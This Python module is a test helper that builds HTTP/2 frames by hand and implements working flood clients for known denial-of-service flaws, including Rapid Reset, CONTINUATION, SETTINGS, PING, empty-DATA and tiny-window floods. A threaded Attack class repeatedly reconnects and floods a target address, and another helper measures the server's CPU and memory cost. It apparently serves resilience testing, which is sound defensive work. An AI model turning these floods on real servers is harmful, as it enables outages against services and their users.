"""HTTP/2 by hand: frames, and clients that mean harm. Used by the end-to-end test and by the measurement of what they cost."""

import os
import select
import socket
import struct
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST, SETTINGS, PING, GOAWAY, WINDOW, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
CALM = 11  # ENHANCE_YOUR_CALM
HELLO = PREFACE + b"\0\0\0\4\0\0\0\0\0" + b"\0\0\0\4\1\0\0\0\0"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def field(name, value):
    assert len(name) < 127 and len(value) < 127
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


def head(method=b"GET", path=b"/x", more=(), scheme=b"http", authority=b"h"):
    return b"".join(field(*one) for one in [(b":method", method), (b":scheme", scheme), (b":authority", authority), (b":path", path), *more])


def frames_of(data):
    """(kind, flags, stream, payload) of every whole frame, and what is left."""
    out = []
    while len(data) >= 9 and len(data) >= 9 + int.from_bytes(data[:3], "big"):
        size = int.from_bytes(data[:3], "big")
        out.append((data[3], data[4], int.from_bytes(data[5:9], "big") & 0x7FFFFFFF, data[9:9 + size]))
        data = data[9 + size:]
    return out, data


def goaway_code(data):
    codes = [int.from_bytes(payload[4:8], "big") for kind, _, _, payload in frames_of(data)[0] if kind == GOAWAY]
    return codes[-1] if codes else None


# --- floods: each yields what one connection sends, without end --------------------------------------------------------

def rapid_reset():
    """CVE-2023-44487: streams that are opened and given up at once."""
    block, stream = head(), 1
    while True:
        yield b"".join(frame(HEADERS, END_STREAM | END_HEADERS, s, block) + frame(RST, 0, s, b"\0\0\0\x08") for s in range(stream, stream + 100, 2))
        stream += 100


def continuation():
    """CVE-2024-27316: a head that never ends, 16 KiB at a time."""
    yield frame(HEADERS, 0, 1, head())
    more = frame(CONTINUATION, 0, 1, field(b"a", b"b" * 100) * 150)
    while True:
        yield more


def small_continuation():
    yield frame(HEADERS, 0, 1, head())
    while True:
        yield frame(CONTINUATION, 0, 1) * 100


def settings():
    """CVE-2019-9515: frames that have to be answered."""
    while True:
        yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535) * 6) * 50


def ping():
    """CVE-2019-9512."""
    while True:
        yield frame(PING, 0, 0, b"12345678") * 100


def empty_data():
    """CVE-2019-9518."""
    yield frame(HEADERS, END_HEADERS, 1, head(b"POST"))
    while True:
        yield frame(DATA, 0, 1) * 100


def tiny_windows():
    """CVE-2019-9511: a window that opens a byte at a time."""
    yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 1)) + frame(HEADERS, END_STREAM | END_HEADERS, 1, head(path=b"/big"))
    while True:
        yield frame(WINDOW, 0, 1, b"\0\0\0\1") * 50


FLOODS = {"rapid_reset": rapid_reset, "continuation": continuation, "small_continuation": small_continuation, "settings": settings,
          "ping": ping, "empty_data": empty_data, "tiny_windows": tiny_windows}


class Attack:
    """Connections that flood until they are sent away, and come again, for some time."""

    def __init__(self, connect, flood, clients=4, seconds=3.0):
        self.connect, self.flood, self.seconds = connect, FLOODS[flood], seconds
        self.connections, self.bytes, self.codes = 0, 0, {}
        self.lock = threading.Lock()
        self.threads = [threading.Thread(target=self.run, daemon=True) for _ in range(clients)]

    def go(self):
        self.end = time.monotonic() + self.seconds
        for thread in self.threads:
            thread.start()
        return self

    def wait(self):
        for thread in self.threads:
            thread.join(self.seconds + 120)
        return self

    def run(self):
        while time.monotonic() < self.end:
            try:
                code, sent = self.once()
            except OSError:
                continue
            with self.lock:
                self.connections += 1
                self.bytes += sent
                self.codes[code] = self.codes.get(code, 0) + 1

    def once(self):
        """@return (code of the GOAWAY or None, bytes sent)."""
        sent, got = 0, b""
        with self.connect() as link:
            link.settimeout(30)
            try:
                link.sendall(HELLO)
                for piece in self.flood():
                    link.sendall(piece)
                    sent += len(piece)
                    while select.select([link], [], [], 0)[0]:
                        data = link.recv(65536)
                        if not data:
                            return goaway_code(got), sent
                        got = (got + data)[-65536:] if goaway_code(got) is None else got
                    if time.monotonic() > self.end + 30:
                        return None, sent
            except OSError:
                pass
            try:
                while data := link.recv(65536):
                    got += data
            except OSError:
                pass
        return goaway_code(got), sent


def cost_of(pid):
    """(CPU seconds, resident MiB) of a process until now."""
    with open(f"/proc/{pid}/stat", encoding="ascii", errors="replace") as stat:
        parts = stat.read().rsplit(")", 1)[1].split()
    with open(f"/proc/{pid}/statm", encoding="ascii") as statm:
        pages = int(statm.read().split()[1])
    return (int(parts[11]) + int(parts[12])) / os.sysconf("SC_CLK_TCK"), pages * os.sysconf("SC_PAGE_SIZE") / 2**20


def plain(address):
    """@return a function that opens connections without TLS."""
    host, port = address.rsplit(":", 1)
    return lambda: socket.create_connection((host, int(port)), timeout=30)
